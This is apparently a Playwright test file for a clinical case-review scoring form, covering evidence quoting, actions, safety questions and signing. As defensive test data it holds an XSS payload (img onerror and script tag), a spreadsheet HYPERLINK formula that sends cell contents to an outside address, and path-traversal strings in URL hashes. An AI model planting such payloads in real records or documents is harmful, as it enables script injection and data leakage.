"""Scoring one case in the form: the record beside the criteria, evidence, comments, actions, the question of safety, and signing."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from playwright.sync_api import Locator, expect

from tests.browser.form_stage import PATIENCE, Form, FormStage, fits, form_stage
from tests.scoring_service import OTHER_SUPERVISOR, SUPERVISEE, SUPERVISOR, Scene

MOST_ACTIONS = 32  # for ten criteria with evidence or a comment each, besides the words typed (design: effort per case)
SCRIPT = "<img src=x onerror=\"window.hurt='note'\"><script>window.hurt='note'</script>"
AT_ONCE = 15_000  # milliseconds, on a machine that is busy with other tests; a silent server would be waited for longer
FORMULA = '=HYPERLINK("http://example.org/?"&A1,"open")'


@pytest.fixture(scope="module")
def stage(tmp_path_factory: pytest.TempPathFactory) -> Iterator[FormStage]:
    """One service whose cases have ten criteria, under the published policy; its notes hold what no note should."""
    with form_stage(tmp_path_factory.mktemp("case"), ten_criteria=True) as made:
        spoil_notes(made.scene)
        yield made


def spoil_notes(scene: Scene) -> None:
    """Puts markup and a formula into the first words of every note of the record, and makes the last note very long."""
    for path in (scene.pack.private / "record").glob("*/notes.parquet"):
        table = pq.read_table(path)
        texts = [f"{SCRIPT} {FORMULA} {text}" for text in table["text"].to_pylist()]
        kinds = [f"{kind} <b>kind</b>" for kind in table["kind"].to_pylist()]
        table = table.set_column(table.schema.get_field_index("text"), "text", pa.array(texts, pa.string()))
        table = table.set_column(table.schema.get_field_index("kind"), "kind", pa.array(kinds, pa.string()))
        pq.write_table(table, path)


def note(form: Form, place: int = -1) -> Locator:
    """Returns a note's text in the record."""
    return form.page.locator("[data-note]").nth(place)


def quote(form: Form, start: int, end: int, place: int = -1) -> str:
    """Drags over characters of a note, from one to another, as a person does; returns what is then selected."""
    target = note(form, place)
    target.scroll_into_view_if_needed()
    boxes = target.evaluate(
        """(element, [start, end]) => {
          const walker = document.createTreeWalker(element, NodeFilter.SHOW_TEXT, node => node.parentElement.closest('[data-aside]') ? 2 : 1);
          const at = offset => { let left = offset; walker.currentNode = element; while (walker.nextNode()) {
            if (left <= walker.currentNode.length) return [walker.currentNode, left]; left -= walker.currentNode.length } };
          const range = document.createRange();
          range.setStart(...at(start)); range.setEnd(...at(end));
          const [first, last] = [range.getClientRects()[0], [...range.getClientRects()].at(-1)];
          return [first.left, first.top + first.height / 2, last.right, last.top + last.height / 2];
        }""",
        [start, end],
    )
    mouse = form.page.mouse
    mouse.move(boxes[0] + 0.5, boxes[1])
    mouse.down()
    mouse.move(boxes[2] - 0.5, boxes[3], steps=4)
    mouse.up()
    words: str = form.page.evaluate("getSelection().toString()")
    return words


def dialog(form: Form, name: str) -> Locator:
    """Returns an open dialog."""
    found = form.page.get_by_role("dialog", name=re.compile(name))
    expect(found).to_be_visible(timeout=PATIENCE)
    return found


def agree(asked: Locator) -> None:
    """Presses the first button of a dialog."""
    asked.locator(".sf-button.primary").click()


def is_signed(form: Form) -> None:
    """Waits until the page has gone on from the case, which it does once the signature is stored."""
    expect(form.page.locator("h1")).not_to_contain_text(form.shown()["case_label"], timeout=PATIENCE)


# The record


def test_the_record_says_everything_as_text(stage: FormStage) -> None:
    form = stage.form(review=stage.reviews()[0])
    expect(note(form)).to_contain_text(SCRIPT)
    expect(note(form)).to_contain_text(FORMULA)
    form.criterion(1)
    form.comment.fill(f"{SCRIPT} {FORMULA}")
    form.is_saved()
    form.page.reload()
    expect(form.comment).to_have_value(f"{SCRIPT} {FORMULA}", timeout=PATIENCE)
    quote(form, 2, 60)
    form.press("e")
    expect(form.page.locator(".sf-evidence q").first).to_contain_text("mg src=x")
    form.press("u")
    form.criterion(1)
    form.comment.fill("")
    form.is_saved()
    assert form.page.evaluate("window.hurt") is None
    assert form.page.locator(".sf-root img, .sf-root script, .sf-root b").count() == 0


@pytest.mark.parametrize(
    "place",
    ["score/review=%22%3E%3Cimg%20src%3Dx%3E", "score/review=../../api/me", "score/review==1+1", "<b>", "nowhere"],
)
def test_an_address_that_is_no_place_does_nothing(stage: FormStage, place: str) -> None:
    form = stage.form()
    asked: list[str] = []
    form.page.on("request", lambda request: asked.append(request.url))
    form.page.evaluate("place => { location.hash = place }", place)
    form.page.reload()
    expect(form.page.locator("h1")).to_be_visible(timeout=PATIENCE)
    assert form.page.locator(".sf-root img, .sf-root b").count() == 0
    assert not [url for url in asked if "api/me" in url.partition("?")[2] or "img" in url]


def test_find_counts_and_steps_through_the_record(stage: FormStage) -> None:
    form = stage.form(review=stage.reviews()[0])
    form.press("f")
    form.page.keyboard.type("hyperlink")
    count = form.page.locator(".sf-count")
    notes = form.page.locator("[data-note]").count()
    expect(count).to_have_text(f"{notes} found")
    form.press("Enter", "Enter")
    expect(count).to_have_text(f"2 of {notes}")
    form.press("Shift+Enter")
    expect(count).to_have_text(f"1 of {notes}")
    expect(note(form, 0)).to_be_in_viewport()
    form.page.get_by_label("Find").fill("no such words")
    expect(count).to_have_text("None found")
    form.press("Escape")
    assert form.focused() != "BODY"


# Evidence and comment


def test_a_quote_is_a_selection_and_one_key(stage: FormStage) -> None:
    form = stage.form(review=stage.reviews()[0])
    form.criterion(2)
    words = quote(form, 10, 50)
    form.press("e")
    form.is_saved()
    text = note(form).inner_text()
    (pointer,) = form.shown()["state"]["criteria"]["ten_criteria/second"]["evidence"]
    assert pointer["quote"] == words.strip() and pointer["end"] - pointer["start"] == len(words.strip())
    shown = next(one for one in form.shown()["panel"]["notes"] if one["key"] == pointer["note"])
    assert shown["text"][pointer["start"] : pointer["end"]] == pointer["quote"] and shown["text"][:40] in text
    expect(note(form).locator("mark")).to_contain_text(words.strip())
    # a second quote, across the mark of the first, knows its true place
    form.criterion(3)
    quote(form, 5, 70)
    form.press("e")
    form.is_saved()
    (across,) = form.shown()["state"]["criteria"]["ten_criteria/third"]["evidence"]
    assert shown["text"][across["start"] : across["end"]] == across["quote"]
    expect(form.page.locator("[data-note] mark").first).to_be_visible()


def test_a_quote_is_cut_at_two_hundred_characters_and_stays_within_one_note(stage: FormStage) -> None:
    form = stage.form(review=stage.reviews()[0])
    form.criterion(4)
    form.page.evaluate(
        """() => { const long = [...document.querySelectorAll('[data-note]')].find(one => one.textContent.length > 300);
          getSelection().selectAllChildren(long) }"""
    )
    form.press("e")
    form.is_saved()
    (pointer,) = form.shown()["state"]["criteria"]["ten_criteria/fourth"]["evidence"]
    assert len(pointer["quote"]) == 200
    form.page.evaluate(
        """() => { const notes = document.querySelectorAll('[data-note]');
          getSelection().setBaseAndExtent(notes[0], 0, notes[1], 1) }"""
    )
    form.press("e")
    expect(form.page.locator("[role=alert]")).to_contain_text("within one note")
    expect(form.page.get_by_role("dialog")).to_have_count(0)


def test_without_a_selection_the_day_and_kind_are_asked_for(stage: FormStage) -> None:
    form = stage.form(review=stage.reviews()[1])
    form.press("e")
    asked = dialog(form, "Evidence")
    asked.get_by_label("Day of the note").fill("2030-01-01")
    agree(asked)
    expect(asked).to_be_visible()
    asked.get_by_label("Day of the note").fill("2026-10-14")
    asked.get_by_label(re.compile("Kind")).fill("phone contact")
    agree(asked)
    expect(asked).to_have_count(0)
    form.is_saved()
    (pointer,) = form.shown()["state"]["criteria"]["ten_criteria/first"]["evidence"]
    assert (pointer["note_date"], pointer["note_kind"], pointer["quote"]) == ("2026-10-14", "phone contact", "")
    chip = form.page.locator(".sf-evidence li").first
    expect(chip).to_contain_text("14 Oct")
    chip.get_by_role("button", name=re.compile("Take away")).click()
    expect(chip).to_have_count(0)
    assert form.focused() != "BODY"
    form.press("u")
    expect(chip).to_have_count(1)
    form.press("Shift+U")
    form.is_saved()
    assert form.shown()["state"]["criteria"]["ten_criteria/first"]["evidence"] == []


def test_a_level_that_needs_more_keeps_the_rater_there_until_it_is_given(stage: FormStage) -> None:
    form = stage.form(review=stage.reviews()[1])
    form.press("2")
    assert form.number == 1
    expect(form.active.get_by_role("button", name=re.compile("^Point to evidence"))).to_be_focused()
    expect(form.active).to_contain_text("needs evidence")
    form.press("Escape")
    assert form.number == 2
    form.press("1")
    expect(form.comment).to_be_focused()
    form.page.keyboard.type("No day is given.")
    form.press("Escape")
    assert form.number == 3
    form.is_saved()


def test_a_full_record_of_ten_criteria_takes_32_actions(stage: FormStage) -> None:
    form = stage.form(review=stage.reviews()[2])
    levels = [2, 3, 1, 2, 0, 3, 2, 1, 2, 3]
    actions = 0
    for number, level in enumerate(levels, 1):
        expect(form.active.locator(".sf-number")).to_have_text(str(number))
        form.press(str(level))
        actions += 1
        if level >= 2:
            quote(form, 10 + number, 40 + number)
            form.press("e")
            actions += 2
        else:
            form.page.keyboard.type("Seen in October.")
            form.press("Escape")
            actions += 1
    form.press("Control+Enter")
    expect(dialog(form, "^Sign ")).to_contain_text("I sign exactly these")
    form.press("Enter")
    actions += 2
    expect(form.page.get_by_role("dialog")).to_have_count(0, timeout=PATIENCE)
    expect(form.page.locator("h1")).not_to_contain_text(form.shown()["case_label"], timeout=PATIENCE)
    assert actions <= MOST_ACTIONS
    assert form.levels() == levels and len(form.entries("signed")) == 1
    assert all(len(one["evidence"]) == 1 for one in form.criteria().values() if (one["level"] or 0) >= 2)


def test_a_comment_becomes_a_phrase_and_a_phrase_a_comment_by_two_keys(stage: FormStage) -> None:
    form = stage.form(review=stage.reviews()[1])
    form.criterion(5)
    form.comment.fill("The plan is older than a year.")
    form.active.get_by_role("button", name=re.compile("phrase", re.IGNORECASE)).first.click()
    asked = dialog(form, "phrase")
    expect(asked).to_contain_text("The plan is older than a year.")
    agree(asked)
    expect(asked).to_have_count(0)
    form.comment.fill("")
    form.is_saved()
    form.active.locator(".sf-criterion-head").focus()
    form.press("c", "1")
    expect(form.comment).to_have_value("The plan is older than a year.")
    form.is_saved()
    assert form.shown()["state"]["criteria"]["ten_criteria/fifth"]["comment"] == "The plan is older than a year."


# Actions and safety


def test_an_action_takes_two_keys_an_owner_and_its_dates(stage: FormStage) -> None:
    form = stage.form(review=stage.reviews()[1])
    form.criterion(6)
    form.press("a")
    asked = dialog(form, "Action")
    owner = asked.get_by_label("Owner")
    expect(owner).to_have_value(form.shown()["practitioner_label"])
    owner.fill("")
    agree(asked)
    expect(asked).to_be_visible()
    expect(asked.locator(".sf-error").filter(has_text=re.compile("owner", re.IGNORECASE))).to_be_visible()
    asked.get_by_label(re.compile("^What")).last.fill("Write to the GP, and note the answer.")
    owner.fill("Dr Patel's surgery")
    agree(asked)
    expect(asked).to_have_count(0)
    form.is_saved()
    (action,) = form.shown()["state"]["actions"]
    assert (action["text"], action["owner"], action["due"]) == (
        "Write to the GP, and note the answer.", "Dr Patel's surgery", "2026-11-10"
    )  # fmt: skip
    expect(form.page.locator(".sf-root")).to_contain_text("Write to the GP, and note the answer.")
    form.press("u")
    form.is_saved()
    assert [one for one in form.shown()["state"]["actions"] if one["state"] != "closed"] == []
    assert form.focused() != "BODY"


def test_the_question_of_safety_stands_beside_and_never_in_the_way(stage: FormStage) -> None:
    form = stage.form(review=stage.reviews()[3])
    form.press("0")  # the first criterion is critical
    question = form.page.get_by_role("group", name=re.compile("Does anyone need to act today"))
    expect(question).to_be_visible()
    expect(question).to_contain_text("3 November 2026")
    form.press("Escape")
    assert form.number == 2
    form.press("3")
    form.is_saved()
    assert form.levels()[:2] == [0, 3]
    expect(question).to_be_visible()
    question.get_by_label(re.compile("being done now")).check()
    question.get_by_role("button", name=re.compile("action")).click()
    asked = dialog(form, "today")
    asked.get_by_label(re.compile("^What")).last.fill("Ring her now.")
    agree(asked)
    expect(asked).to_have_count(0)
    form.is_saved()
    assert form.shown()["state"]["criteria"]["ten_criteria/first"]["safety"]["answer"] == "acting_now"
    (action,) = form.shown()["state"]["actions"]
    assert action["due"] == "2026-11-03"


def test_what_was_handed_over_is_stored_with_to_whom_and_when(stage: FormStage) -> None:
    form = stage.form(review=stage.reviews()[4])
    form.press("0")
    question = form.page.get_by_role("group", name=re.compile("Does anyone need to act today"))
    question.get_by_label(re.compile("handed it over")).check()
    expect(question.get_by_label(re.compile("To whom"))).to_be_focused()
    expect(question).to_contain_text("not stored yet")
    form.is_saved()
    first = "ten_criteria/first"
    assert form.shown()["state"]["criteria"][first]["safety"] is None
    question.get_by_label(re.compile("To whom")).fill("Jo Hart, duty manager")
    question.get_by_label(re.compile("what time")).fill("14:20")
    form.press("Tab")
    expect(question).not_to_contain_text("not stored yet")
    form.is_saved()
    said = form.shown()["state"]["criteria"][first]["safety"]
    assert said["answer"] == "handed_over"
    assert said["note"] == "Handed over to Jo Hart, duty manager on 2026-11-03 at 14:20."
    question.get_by_label(re.compile("Nobody")).check()
    form.is_saved()
    said = form.shown()["state"]["criteria"][first]["safety"]
    assert (said["answer"], said["note"]) == ("nobody", "")


def test_the_two_linked_actions_of_a_gap(stage: FormStage, tmp_path: Path) -> None:
    with form_stage(tmp_path, browser=stage.browser) as published:
        form = published.form(review=published.reviews()[0])
        form.press("1")
        form.page.keyboard.type("No options are set out.")
        form.press("Escape")
        form.criterion(1)
        form.press("a")
        asked = dialog(form, "Actions")
        expect(asked.get_by_label("Owner")).to_have_count(2)
        expect(asked.get_by_label("Owner").first).to_be_focused()
        form.press("Enter")
        expect(asked).to_have_count(0)
        form.is_saved()
        one, other = form.shown()["state"]["actions"]
        assert {one["action_kind"], other["action_kind"]} == {"rewrite_escalation_note", "update_crisis_plan"}
        assert one["linked"] == other["action"] or other["linked"] == one["action"]
        assert {one["review_date"], other["review_date"]} == {"2026-11-10"}
        assert {one["criterion"], other["criterion"]} == {next(iter(form.criteria()))}
        # a second gap of the same kinds is mended by the same two actions
        form.criterion(2)
        form.press("1")
        form.page.keyboard.type("No source is named.")
        form.press("Escape")
        expect(form.page.locator(".sf-after")).to_be_hidden()
        expect(form.page.locator(".sf-actions li").first).to_contain_text("Criteria 1 and 2")
        form.is_saved()
        assert len(form.shown()["state"]["actions"]) == 2


# The case as a whole


def test_after_a_reload_the_header_names_the_purpose_that_the_case_was_opened_for(stage: FormStage) -> None:
    form = stage.form(OTHER_SUPERVISOR, review=stage.reviews(OTHER_SUPERVISOR)[0])
    form.page.evaluate("location.hash = location.hash.replace('purpose=supervision', 'purpose=training')")
    form.page.reload()
    expect(form.page.locator(".sf-purpose")).to_have_text("Purpose: Training", timeout=PATIENCE)
    assert "purpose=training" in form.page.url


def test_parking_referring_and_the_way_back(stage: FormStage) -> None:
    form = stage.form(OTHER_SUPERVISOR, review=stage.reviews(OTHER_SUPERVISOR)[0])
    form.press("p")
    asked = dialog(form, "Park")
    asked.get_by_role("textbox").fill("The letter has not come.")
    agree(asked)
    expect(asked).to_have_count(0)
    expect(form.page.locator("h1")).to_contain_text("Your cases", timeout=PATIENCE)
    expect(form.page.locator(".sf-root")).to_contain_text("Parked", timeout=PATIENCE)
    form.is_saved()
    assert form.shown()["state"]["parked"]["reason"] == "The letter has not come."
    form.page.evaluate("location.hash = 'queue'")
    expect(form.page.locator("h1")).to_contain_text("Your cases", timeout=PATIENCE)
    form.open()
    expect(form.page.locator(".sf-root")).to_contain_text("The letter has not come.")
    form.press("p")
    form.is_saved()
    assert form.shown()["state"]["parked"]["parked"] is False
    form.press("r")
    asked = dialog(form, "Refer")
    agree(asked)
    expect(asked).to_be_visible()
    asked.get_by_role("textbox").fill("Is the second anchor meant so?")
    agree(asked)
    form.is_saved()
    assert form.shown()["state"]["referred"]["reason"] == "Is the second anchor meant so?"
    assert form.focused() != "BODY"


def test_what_is_missing_is_named_and_led_to(stage: FormStage) -> None:
    form = stage.form(review=stage.reviews()[4])
    form.press("Control+Enter")
    asked = dialog(form, "missing")
    expect(asked).to_contain_text("Criterion 10")
    asked.get_by_role("button", name=re.compile("Criterion 7")).click()
    expect(asked).to_have_count(0)
    assert form.number == 7 and form.focused() != "BODY"
    assert form.entries("signed") == []


def test_sign_change_void_and_sign_again(stage: FormStage) -> None:
    review = stage.reviews(OTHER_SUPERVISOR)[1]
    stage.scene.rate_all(OTHER_SUPERVISOR, review, 2)
    stage.scene.sign(OTHER_SUPERVISOR, review)
    form = stage.form(OTHER_SUPERVISOR, review=review)
    expect(form.page.locator(".sf-root")).to_contain_text("This review is signed.")
    form.press("3", "n", "u")
    expect(form.active.get_by_role("radio").first).to_be_disabled()
    assert form.levels() == [2] * 10
    form.page.get_by_role("button", name=re.compile("^Change it")).click()
    asked = dialog(form, "Change a signed review")
    expect(asked).to_contain_text("voids your signature")
    form.press("Escape")
    assert len(form.entries("signature_voided")) == 0 and form.focused() != "BODY"
    form.page.get_by_role("button", name=re.compile("^Change it")).click()
    dialog(form, "Change a signed review").get_by_role("button", name="Change it").click()
    form.criterion(1)
    form.press("3")
    form.is_saved()
    expect(form.page.locator("[role=alert]").filter(has_text="no longer stands")).to_have_count(1)
    expect(form.page.locator(".sf-notices")).to_contain_text("No longer stands")
    assert [entry.payload.reason for entry in form.entries("signature_voided")] == ["changed"]
    agree(form.sign_off())
    is_signed(form)
    signatures = form.shown()["state"]["signatures"]
    assert [one["void"] for one in signatures] == [True, False]


def test_what_was_changed_elsewhere_is_not_signed_unseen(stage: FormStage) -> None:
    review = stage.reviews(OTHER_SUPERVISOR)[2]
    stage.scene.rate_all(OTHER_SUPERVISOR, review, 2)
    form = stage.form(OTHER_SUPERVISOR, review=review)
    asked = form.sign_off()
    other = stage.form(OTHER_SUPERVISOR, review=review)
    other.criterion(1)
    other.press("3")
    other.is_saved()
    agree(asked)
    expect(dialog(form, "Not signed")).to_contain_text("Something was changed")
    form.press("Escape")
    assert form.entries("signed") == []
    expect(form.answer(1)).to_have_text("Level 3")


def test_a_signature_waits_for_what_is_unsaved(stage: FormStage) -> None:
    review = stage.reviews()[4]
    stage.scene.rate_all(SUPERVISOR, review, 2)
    form = stage.form(review=review)
    form.criterion(4)
    form.page.route("**/sampling/api/events", lambda route: route.abort())
    form.press("3")
    form.is_not_saved()
    form.press("Control+Enter")
    expect(dialog(form, "not saved")).to_contain_text("Criterion 4", timeout=AT_ONCE)
    form.press("Escape")
    expect(form.page.get_by_role("dialog")).to_have_count(0)
    assert form.focused() != "BODY"
    # left open, it goes on by itself once everything is saved
    form.press("Control+Enter")
    dialog(form, "not saved")
    form.page.unroute("**/sampling/api/events")
    expect(dialog(form, "^Sign ")).to_contain_text("I sign exactly these")
    form.press("Escape")
    form.is_saved()
    assert form.entries("signed") == [] and form.levels()[3] == 3


def test_a_silent_server_is_named_at_once_when_someone_wants_to_sign(stage: FormStage) -> None:
    form = stage.form(review=stage.reviews()[4])
    form.criterion(5)
    form.page.route("**/sampling/api/**", lambda route: None)  # no answer, and no failure either
    form.press("3")
    form.press("Escape")
    form.press("Control+Enter")
    expect(dialog(form, "not saved")).to_contain_text("Criterion 5", timeout=AT_ONCE)
    form.press("Escape")
    form.page.unroute("**/sampling/api/**")
    assert form.entries("signed") == []


def test_a_supervisee_reads_and_signs_what_was_signed(stage: FormStage) -> None:
    own = [
        review
        for review in stage.reviews()
        if stage.scene.review(SUPERVISOR, review)["practitioner_label"] == SUPERVISEE
    ]
    review = own[0]
    stage.scene.rate_all(SUPERVISOR, review, 2)
    stage.scene.sign(SUPERVISOR, review)
    form = stage.form(SUPERVISEE, review=review)
    expect(form.page.locator(".sf-root")).to_contain_text(
        "You may read this, reply to it and sign that you have seen it."
    )
    expect(form.active.get_by_role("radio").first).to_be_disabled()
    before = len(form.entries())
    form.press("3", "n", "u", "p", "r", "a", "e")
    expect(form.page.get_by_role("dialog")).to_have_count(0)
    assert len(form.entries()) == before
    asked = form.sign_off()
    expect(asked).to_contain_text("that I have seen it")
    agree(asked)
    is_signed(form)
    assert [entry.payload.role for entry in form.entries("signed")] == ["rater", "supervisee"]


def test_under_references_only_no_word_is_kept_and_the_page_says_so(stage: FormStage, tmp_path: Path) -> None:
    policy = 'copies = "references_only"\n'
    with form_stage(tmp_path, ten_criteria=True, policy=policy, browser=stage.browser) as wordless:
        context = wordless.context(permissions=["clipboard-read", "clipboard-write"])
        form = wordless.form(context=context, review=wordless.reviews()[0])
        form.press("1")
        form.comment.fill("zebra crossing")
        expect(form.state).not_to_have_text(re.compile("^Saved"))
        assert "zebra" not in " ".join(form.kept())
        form.page.get_by_role("button", name="Copy the text").click()
        assert "zebra crossing" in form.page.evaluate("navigator.clipboard.readText()")
        form.page.evaluate("location.hash = 'queue'")
        expect(dialog(form, "Leave")).to_contain_text("kept nowhere else")
        form.press("Escape")
        form.page.get_by_label(re.compile("Where it stands in the case system")).fill("NOTE/123")
        form.page.get_by_role("button", name="I have pasted it").click()
        form.is_saved()
        assert form.shown()["state"]["paste"]["reference"] == "NOTE/123"
        assert form.entries("commented") == []
        form.press("Escape")
        form.criterion(2)
        form.press("a")
        asked = dialog(form, "Action")
        expect(asked.get_by_label(re.compile("^What")).last).not_to_be_editable()
        agree(asked)
        form.press("r")
        asked = dialog(form, "Refer")
        asked.get_by_role("combobox").select_option("An anchor is unclear")
        agree(asked)
        # an action belongs to the text for the case system, so that has to be put there once more
        form.page.get_by_label(re.compile("Where it stands in the case system")).fill("NOTE/124")
        form.page.get_by_role("button", name="I have pasted it").click()
        form.is_saved()
        state = form.shown()["state"]
        assert state["referred"]["reason"] == "An anchor is unclear" and len(state["actions"]) == 1


# On the screen


def test_a_laptop_shows_everything_of_the_open_criterion_without_scrolling(stage: FormStage, tmp_path: Path) -> None:
    """With the longest anchors that are published."""
    with form_stage(tmp_path, browser=stage.browser) as published:
        form = published.form(review=published.reviews()[0])
        for number in range(1, 19):
            form.criterion(number)
            for place in range(4):
                expect(form.active.locator(".sf-level").nth(place)).to_be_in_viewport(ratio=1)
            expect(form.active.get_by_role("button", name=re.compile("^Point to evidence"))).to_be_in_viewport(ratio=1)
            expect(form.comment).to_be_in_viewport(ratio=1)
        page = "document.documentElement"
        assert form.page.evaluate(f"{page}.scrollHeight <= {page}.clientHeight"), "the page itself scrolls"
        expect(form.page.get_by_role("button", name=re.compile("^Sign off"))).to_be_in_viewport(ratio=1)
        expect(form.state).to_be_in_viewport(ratio=1)
        fits(form.page)
